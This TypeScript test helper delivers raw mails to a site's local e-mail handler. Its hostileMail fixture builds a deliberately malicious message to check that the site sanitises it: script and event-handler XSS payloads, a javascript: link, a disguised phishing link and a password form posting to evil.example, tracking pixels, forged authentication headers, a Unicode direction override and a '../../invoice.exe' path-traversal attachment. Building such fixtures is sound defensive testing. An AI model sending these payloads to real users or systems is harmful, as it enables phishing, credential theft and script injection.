import { SITE } from './as-owner.ts';

/** The local server's address for incoming mail. Source: developers.cloudflare.com, "Email Workers, local development". */
const EMAIL_HANDLER = '/cdn-cgi/handler/email';

interface Envelope {
  from?: string;
  to?: string;
}

/** Passes a raw mail to the site's e-mail handler, which must accept it. */
export async function deliver(
  raw: string | Uint8Array<ArrayBuffer>,
  { from = 'maria@client.example', to = 'hello@lycabettus.test' }: Envelope = {},
): Promise<void> {
  const response = await fetch(`${SITE}${EMAIL_HANDLER}?${new URLSearchParams({ from, to })}`, {
    method: 'POST',
    headers: { 'Content-Type': 'message/rfc822' },
    body: typeof raw === 'string' ? raw.replace(/\r?\n/gu, '\r\n') : raw,
  });
  if (!response.ok) throw new Error(`The mail was not taken: ${response.status} ${await response.text()}`);
}

let count = 0;
/** Returns a word that nothing else in the database has. */
export const unique = (): string => {
  count += 1;
  return `w${Date.now().toString(36)}${process.pid.toString(36)}x${count}`;
};

/** Makes a plain mail, different from all others. */
export const plainMail = (subject: string, body: string, headers: Record<string, string> = {}): string => {
  const all = {
    From: 'Maria Papadaki <maria@client.example>',
    To: 'hello@lycabettus.test',
    Subject: `=?utf-8?B?${Buffer.from(subject).toString('base64')}?=`,
    'Message-ID': `<${unique()}@client.example>`,
    'MIME-Version': '1.0',
    'Content-Type': 'text/plain; charset=utf-8',
    'Content-Transfer-Encoding': '8bit',
    ...headers,
  };
  const head = Object.entries(all).map(([name, value]) => `${name}: ${value}`);
  return `${head.join('\n')}\n\n${body}\n`;
};

const DOT = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAFklEQVR4nGNkYPj/n4GKgGnUglELQAAAZ8kB8Ww0kSkAAAAASUVORK5CYII=';

/** Makes a mail with scripts, handlers, tracking pictures, a false link, forged headers and invalid encodings. */
export const hostileMail = (word: string): Uint8Array<ArrayBuffer> => {
  const text = `From: "Your bank support@bank.example" <phish@evil.example>
To: hello@lycabettus.test
Subject: =?utf-8?Q?Act_now_${word}_=E2=80=AE?=
Subject: forged
Message-ID: <${word}@evil.example>
Authentication-Results: lycabettus.test; dkim=pass
X-Spam-Flag: NO
MIME-Version: 1.0
Content-Type: multipart/related; boundary=B

--B
Content-Type: text/html; charset=utf-8

<html><head><style>@import "https://evil.example/a.css";body{display:none}</style></head><body onload="document.title='owned'">
<h1 onclick="document.title='owned'">Dear <b>customer</b></h1><script>document.title='owned'</script>
<svg onload="document.title='owned'"><script>document.title='owned'</script></svg><img src=x onerror="document.title='owned'">
<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)">Go <a href="javascript:document.title='owned'">here</a>,
<a href="https://evil.example/login">https://bank.example/login</a></p>
<img src="https://evil.example/pixel.gif" width="1" height="1"><img src="https://evil.example/hero.png" alt="Our offer" width="600" height="200">
<img src="cid:logo@bank" alt="Logo"><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><ul><div>stray</div></ul><li>lone</li>
<table><tr><td>layout</td></tr></table><table><tr><th>Plan</th><th></th></tr><tr><td>A</td><td>9</td></tr></table>
<blockquote>Earlier</blockquote><p lang="no such language">\x80\xff</p></body></html>
--B
Content-Type: image/png
Content-ID: <logo@bank>
Content-Transfer-Encoding: base64

${DOT}
--B
Content-Type: application/x-msdownload; name="../../invoice.exe"
Content-Disposition: attachment; filename="../../invoice.exe"
Content-Transfer-Encoding: base64

!!!! no base64 !!!!
--B--`;
  // As bytes; the text's last two are not UTF-8.
  return new Uint8Array(Buffer.from(text.replaceAll('\n', '\r\n'), 'latin1'));
};
